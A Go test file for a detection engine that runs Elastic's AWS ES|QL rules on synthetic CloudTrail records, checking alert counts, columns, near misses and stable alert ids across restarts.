func feedESQL(t *testing.T, rs *conf.RuleSet, r *conf.Rule, records []string, m feedMode) esqlFeed {
	t.Helper()
	path := filepath.Join(t.TempDir(), "state.db")
	var now time.Time
	var st *store.Store
	var e *Engine
	open := func() {
		if st != nil {
			if err := st.Close(); err != nil {
				t.Fatal(err)
			}
		}
		var err error
		if st, err = store.Open(path, store.Options{NoSync: true}); err != nil {
			t.Fatal(err)
		}
		o := Options{State: st, TimeSource: EventTime, Now: func() time.Time { return now }}
		if m.db != nil {
			o.Enricher = m.db
		}
		if e, err = New(rs, o); err != nil {
			t.Fatal(err)
		}
	}
	var out esqlFeed
	collect := func(res Result, err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		out.steps = append(out.steps, len(res.Alerts))
		for _, a := range res.Alerts {
			out.ids = append(out.ids, a.UUID)
			out.docs = append(out.docs, a.Doc())
		}
		out.rows += res.Stats.Matches[r.Name]
		out.suppressed += res.Stats.Suppressed
	}
	batches := [][]string{records}
	if r.ESQL.IsAggregating() {
		half := len(records) / 2
		last := eventTime(t, records[len(records)-1])
		iv := r.IntervalDur
		tick := last.Truncate(iv).Add(iv + time.Second)
		batches = [][]string{records[:half], records[half:], {esqlTick(tick)}}
	}
	open()
	defer func() { st.Close() }()
	for _, b := range batches {
		if m.restart {
			open()
		}
		for _, js := range b {
			if tm := eventTime(t, js).Add(2 * time.Minute); tm.After(now) {
				now = tm
			}
		}
		collect(e.ProcessBatch(parseRecords(t, b, m.inPlace)))
	}
	if !r.ESQL.IsAggregating() {
		// The same records again (a retried chunk): no second alert.
		if res, err := e.ProcessBatch(parseRecords(t, records, m.inPlace)); err != nil || len(res.Alerts) != 0 {
			t.Errorf("the records given again: %d alerts, %v", len(res.Alerts), err)
		}
	} else {
		if m.restart {
			open()
		}
		collect(e.Drain())
		if res, err := e.Drain(); err != nil || len(res.Alerts) != 0 {
			t.Errorf("a second Drain: %d alerts, %v", len(res.Alerts), err)
		}
	}
	return out
}

// colText is an alert's column (a flat key, or a path in the document) as
// text.
func colText(d map[string]any, name string) (string, bool) {
	if v, ok := d[name]; ok {
		return fmt.Sprint(v), true
	}
	var cur any = d
	for _, p := range strings.Split(name, ".") {
		m, ok := cur.(map[string]any)
		if !ok {
			return "", false
		}
		if cur, ok = m[p]; !ok {
			return "", false
		}
	}
	return fmt.Sprint(cur), true
}

// TestCorpusESQLRules runs each of Elastic's 25 AWS ES|QL rules alone on
// raw CloudTrail records written for it, and on near misses. An aggregating
// rule's records are seen by overlapping runs, and the same runs across
// restarts make the same alert ids.
func TestCorpusESQLRules(t *testing.T) {
	all, corpus := corpusRules(t)
	if !corpus {
		t.Skip("Elastic's rules are not at ../../shared/detection-rules/aws: nothing to run")
	}
	byName := map[string]*conf.Rule{}
	aggregating := 0
	for _, r := range all.Runnable() {
		if r.Type == "esql" {
			byName[r.Name] = r
			if r.ESQL.IsAggregating() {
				aggregating++
			}
		}
	}
	if len(byName) != 25 || aggregating != 18 {
		t.Fatalf("%d runnable ES|QL rules, %d aggregating: want 25, 18", len(byName), aggregating)
	}
	cases := esqlCorpusCases()
	var db *enrich.DB
	for _, tc := range cases {
		if tc.geo {
			db = geoDB(t)
			break
		}
	}
	for _, tc := range cases {
		r := byName[tc.rule]
		delete(byName, tc.rule)
		t.Run(tc.rule, func(t *testing.T) {
			if r == nil {
				t.Fatal("no runnable ES|QL rule of that name")
			}
			one := conf.RuleSet{Rules: []*conf.Rule{r}, Schema: all.Schema}
			var withDB *enrich.DB
			if tc.geo {
				withDB = db
				// Without the databases the rule's source.as/source.geo
				// fields are null: no alert.
				if got := feedESQL(t, &one, r, tc.hit, feedMode{}); len(got.ids) != 0 {
					t.Errorf("%d alerts without the MaxMind databases, want 0", len(got.ids))
				}
			}
			got := feedESQL(t, &one, r, tc.hit, feedMode{db: withDB})
			t.Logf("%d alerts (%d suppressed; by batch %v), %d rows before STATS", len(got.ids), got.suppressed, got.steps, got.rows)
			if len(got.ids) != tc.want {
				t.Errorf("%d alerts on the records written for it, want %d", len(got.ids), tc.want)
				for _, d := range got.docs {
					t.Logf("alert %v", d)
				}
			}
			if tc.rows >= 0 && got.rows != tc.rows {
				t.Errorf("%d records gave a row before STATS, want %d", got.rows, tc.rows)
			}
			if len(got.docs) > 0 {
				for _, c := range tc.cols {
					name, want, _ := strings.Cut(c, "=")
					if v, ok := colText(got.docs[0], name); !ok || v != want {
						t.Errorf("column %s = %q (present %v), want %q", name, v, ok, want)
					}
				}
			}
			seen := map[string]bool{}
			for _, id := range got.ids {
				if seen[id] {
					t.Errorf("alert id %s twice", id)
				}
				seen[id] = true
			}
			if r.ESQL.IsAggregating() {
				again := feedESQL(t, &one, r, tc.hit, feedMode{db: withDB, restart: true})
				if !slices.Equal(again.ids, got.ids) || !slices.Equal(again.steps, got.steps) || again.suppressed != got.suppressed {
					t.Errorf("across restarts the alerts are %v by batch %v (%d suppressed), want %v by batch %v (%d suppressed)",
						again.ids, again.steps, again.suppressed, got.ids, got.steps, got.suppressed)
				}
			}
			if mp := feedESQL(t, &one, r, tc.hit, feedMode{db: withDB, inPlace: true}); !slices.Equal(mp.ids, got.ids) {
				t.Errorf("records read in place from MessagePack make alerts %v, want %v", mp.ids, got.ids)
			}
			// With every rule of the corpus loaded, the rule's alerts are the
			// same (the candidate index, shared evaluations, the clock).
			var together []string
			crowd := feedESQL(t, all, r, tc.hit, feedMode{db: withDB})
			for i, d := range crowd.docs {
				if d["kibana.alert.rule.name"] == tc.rule {
					together = append(together, crowd.ids[i])
				}
			}
			if !slices.Equal(together, got.ids) {
				t.Errorf("with the whole corpus loaded the rule makes alerts %v, want %v", together, got.ids)
			}
			for i, miss := range tc.misses {
				if got := feedESQL(t, &one, r, miss, feedMode{db: withDB}); len(got.ids) != 0 {
					t.Errorf("near miss %d: %d alerts, want 0", i, len(got.ids))
					for _, d := range got.docs {
						t.Logf("alert %v", d)
					}
				}
			}
		})
	}
	if len(byName) > 0 {
		t.Errorf("rules without a test: %v", slices.Sorted(maps.Keys(byName)))
	}
}

// TestCorpusESQLAfterARun: records of a window that arrive after a run has
// read (and compacted) their bucket still count in the next run that holds
// them, across a restart: half of the calls of "AWS EC2 Multi-Region
// DescribeInstances API Calls" before the run at 10:05, half after it; the
// run at 10:10 finds all ten regions.
func TestCorpusESQLAfterARun(t *testing.T) {
	one := corpusRuleAlone(t, "AWS EC2 Multi-Region DescribeInstances API Calls")
	calls := describeCalls("10:04:00", tenRegions)
	path := filepath.Join(t.TempDir(), "state.db")
	now := at("10:06:00")
	var docs []map[string]any
	for _, b := range [][]string{calls[:5], {esqlTick(at("10:05:01"))}, calls[5:], {esqlTick(at("10:15:01"))}} {
		st, err := store.Open(path, store.Options{NoSync: true})
		if err != nil {
			t.Fatal(err)
		}
		e, err := New(one, Options{State: st, TimeSource: EventTime, Now: func() time.Time { return now }})
		if err != nil {
			t.Fatal(err)
		}
		res, err := e.ProcessBatch(parseRecords(t, b, false))
		if err != nil {
			t.Fatal(err)
		}
		if res.Stats.Late != 0 {
			t.Errorf("%d records late", res.Stats.Late)
		}
		for _, a := range res.Alerts {
			docs = append(docs, a.Doc())
		}
		st.Close()
	}
	if len(docs) != 1 || docs[0]["kibana.alert.original_time"] != "2026-05-04T10:10:00.000Z" ||
		docs[0]["Esql.event_count"] != int64(10) || docs[0]["Esql.cloud_region_count_distinct"] != int64(10) {
		t.Fatalf("alerts %v, want one of the run at 10:10 with ten calls in ten regions", docs)
	}
}

// TestCorpusESQLUserAgentName: "AWS Discovery API Calls via CLI from a
// Single Resource" tests user_agent.name, which already-ECS documents carry
// as Elastic indexed it: they make the alerts the query asks for, one per
// run at 10:05 and 10:10.
func TestCorpusESQLUserAgentName(t *testing.T) {
	one := corpusRuleAlone(t, "AWS Discovery API Calls via CLI from a Single Resource")
	actions := []string{"DescribeInstances", "DescribeVpcs", "DescribeSubnets", "DescribeSecurityGroups", "DescribeVolumes", "DescribeSnapshots"}
	docs := many(len(actions), func(i int) string {
		return fmt.Sprintf(`{"@timestamp":"2026-05-04T10:04:0%dZ","event":{"provider":"ec2.amazonaws.com","action":%q,"dataset":"aws.cloudtrail","outcome":"success","id":"ecs-%d"},
		"data_stream":{"dataset":"aws.cloudtrail"},"source":{"ip":"198.51.100.7"},"user_agent":{"name":"aws-cli","original":"aws-cli/2.15.0"},
		"cloud":{"account":{"id":"111122223333"},"region":"us-east-1"},"user":{"name":"alice"},
		"aws":{"cloudtrail":{"user_identity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/alice","access_key_id":"AKIAEXAMPLE"}}}}`, i, actions[i], i)
	})
	e, _ := newEngine(t, one, Options{TimeSource: EventTime, Now: func() time.Time { return at("10:06:00") }})
	if _, err := e.ProcessBatch(parseRecords(t, docs, false)); err != nil {
		t.Fatal(err)
	}
	res, err := e.Drain()
	if err != nil {
		t.Fatal(err)
	}
	var runs []string
	for _, a := range res.Alerts {
		if d := a.Doc(); d["Esql.event_action_count_distinct"] == int64(6) {
			runs = append(runs, d["kibana.alert.original_time"].(string))
		}
	}
	if !slices.Equal(runs, []string{"2026-05-04T10:05:00.000Z", "2026-05-04T10:10:00.000Z"}) || len(res.Alerts) != 2 {
		t.Fatalf("%d alerts, runs with six actions %v: want the runs at 10:05 and 10:10", len(res.Alerts), runs)
	}
}

// corpusRuleAlone is a rule set of one rule of Elastic's corpus, by name.
func corpusRuleAlone(t *testing.T, name string) *conf.RuleSet {
	t.Helper()
	all, corpus := corpusRules(t)
	if !corpus {
		t.Skip("Elastic's rules are not at ../../shared/detection-rules/aws: nothing to run")
	}
	for _, r := range all.Runnable() {
		if r.Name == name {
			return &conf.RuleSet{Rules: []*conf.Rule{r}, Schema: all.Schema}
		}
	}
	t.Fatalf("no rule %q", name)
	return nil
}
